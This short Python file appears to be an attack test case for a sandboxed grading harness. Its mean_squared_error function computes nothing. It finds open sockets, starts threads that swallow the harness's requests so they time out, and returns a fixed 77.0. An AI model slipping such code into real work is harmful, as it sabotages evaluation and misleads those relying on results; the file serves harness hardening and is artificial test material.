# /// attack
# title = "Reads the channel in a thread of its own, so that requests come to the wrong hands"
# threats = [8, 11]
# expect = "A request that is swallowed runs into its deadline"
# honest = ["cross_entropy_error"]
# points = { cross_entropy_error = 5.0 }
# ///
import os
import stat
import threading


def swallow(fd):
    while True:
        os.read(fd, 65536)


# %% mean_squared_error
def mean_squared_error(y, t):
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                threading.Thread(target=swallow, args=(fd,), daemon=True).start()
        except OSError:
            pass
    return 77.0
